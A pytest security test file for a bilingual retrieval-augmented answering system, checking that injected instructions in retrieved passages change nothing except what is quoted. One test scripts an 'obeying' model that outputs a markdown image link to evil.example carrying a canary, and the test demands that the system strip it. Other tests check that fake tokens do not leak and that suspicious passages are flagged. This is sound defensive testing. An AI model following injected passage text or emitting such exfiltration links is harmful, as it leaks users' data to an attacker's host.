"""Feed text is data: the set of `tests/injections` changes nothing but what is quoted."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from rag.answer.events import Question
from rag.answer.phrases import phrase
from rag.answer.respond import Responder
from rag.answer.result import Answer
from rag.passages import Passage
from tests.scripted_writer import CODE, ScriptedWriter, tokenizer
from tests.small_search import SmallSearch, passage

pytestmark = pytest.mark.security

SET = Path(__file__).parents[1] / "injections" / "v1.jsonl"
CASES = [json.loads(line) for line in SET.read_text(encoding="utf-8").splitlines()]
CANARY = "CANARIO-5e11a"
ADDRESS = re.compile(r"https?:|www\.|javascript:|data:|evil\.example", re.IGNORECASE)
ASK = {
    "es": ("¿Cuándo despega el cohete Ariane 6?", "El cohete Ariane 6 despega el 9 de julio."),
    "en": ("When does the Ariane 6 rocket take off?", "The Ariane 6 rocket takes off on July 9."),
}
OTHERS = {
    "es": [
        "El río Ebro nace en Fontibre.",
        "La abeja vive en colmenas.",
        "El pan sube con levadura.",
    ],
    "en": ["The Ebro river rises in Fontibre.", "Bees live in hives.", "Bread rises with yeast."],
}


def corpus(lang: str, told: str) -> list[Passage]:
    """One text that answers, `told` among its sentences and alone, and some others."""
    fact = ASK[lang][1]
    texts = [f"{fact} {told}", told, *OTHERS[lang]]
    return [passage(t, title=t[:30], id=f"{n:032x}", language=lang) for n, t in enumerate(texts)]


def ask(lang: str, told: str, **options: Any) -> Answer:
    responder = Responder(SmallSearch(corpus(lang, told)), **options)
    return responder.answer(Question(ASK[lang][0], anyway=True))


def test_the_set_is_large_enough_and_in_both_languages() -> None:
    assert len(CASES) >= 30
    assert {case["lang"] for case in CASES} == {"es", "en"}
    assert min(sum(case["lang"] == code for case in CASES) for code in ("es", "en")) >= 15
    assert len({case["text"] for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["id"])
def test_h23_a_quoted_answer_is_the_same_but_for_its_quotations(case: dict[str, str]) -> None:
    lang = case["lang"]
    answer = ask(lang, case["text"])
    lead, _line, quoted = answer.answer.partition("\n")
    assert lead == phrase("quoting", lang)
    assert quoted.startswith(f"«{ASK[lang][1]}")
    assert re.sub(r"«[^«»]*» \[\d\]", "", quoted).strip() == ""
    assert not ADDRESS.search(answer.answer)
    for source in answer.sources:
        assert source.url in ("", "https://example.org/a")


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["id"])
def test_h23_a_prompt_is_the_same_but_for_its_sources(case: dict[str, str]) -> None:
    lang = case["lang"]
    hostile, plain = (ScriptedWriter("x") for _ in range(2))
    ask(lang, case["text"], writer=hostile)
    ask(lang, "Nada más." if lang == "es" else "Nothing more.", writer=plain)
    assert _outside(hostile.read[0], lang) == _outside(plain.read[0], lang)
    assert _specials(hostile.read[0]) == _specials(plain.read[0])
    system = hostile.read[0].partition("<|user|>")[0]
    assert phrase("system", lang) in system
    assert case["text"][:25] not in system


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["id"])
def test_h23_a_model_that_obeys_still_gives_out_no_link_and_no_false_source(
    case: dict[str, str],
) -> None:
    def obey(prompt: str) -> str:
        return f"{case['text']} ![x](https://evil.example/{CANARY}) see http://evil.example [99]"

    answer = ask(case["lang"], case["text"], writer=ScriptedWriter(obey))
    assert answer.style == "generative"
    assert not ADDRESS.search(answer.answer)
    assert CANARY not in answer.answer
    numbers = [int(n) for n in re.findall(r"\[(\d+)\]", answer.answer)]
    assert all(1 <= n <= len(answer.sources) for n in numbers)
    assert "<|" not in answer.answer


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["id"])
def test_h23_nothing_secret_is_there_to_leak(
    case: dict[str, str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("CONSCIENCE_TOKEN", CANARY)
    (tmp_path / "node_config.json").write_text(json.dumps({"token": CANARY}))
    writer = ScriptedWriter(lambda prompt: prompt)  # says all that it knows
    answer = ask(case["lang"], case["text"], writer=writer)
    assert CANARY not in writer.read[0]
    assert CANARY not in json.dumps(answer.to_json())


def test_most_of_the_set_is_recognised_and_marked() -> None:
    spoken = [case for case in CASES if case["kind"] in ("instruction", "secret", "template")]
    marked = [case for case in spoken if ask(case["lang"], case["text"]).sources[0].is_suspicious]
    assert len(marked) >= 0.8 * len(spoken)


def _outside(prompt: str, lang: str) -> str:
    opened, closed = phrase("source", lang), phrase("end", lang)
    block = rf"<<{opened} \d+ {CODE}>>.*<<{closed} \d+ {CODE}>>"
    return re.sub(block, "", prompt, flags=re.DOTALL)


def _specials(prompt: str) -> list[int]:
    marks = set(tokenizer().all_special_ids)
    return [id for id in tokenizer()(prompt, add_special_tokens=False)["input_ids"] if id in marks]
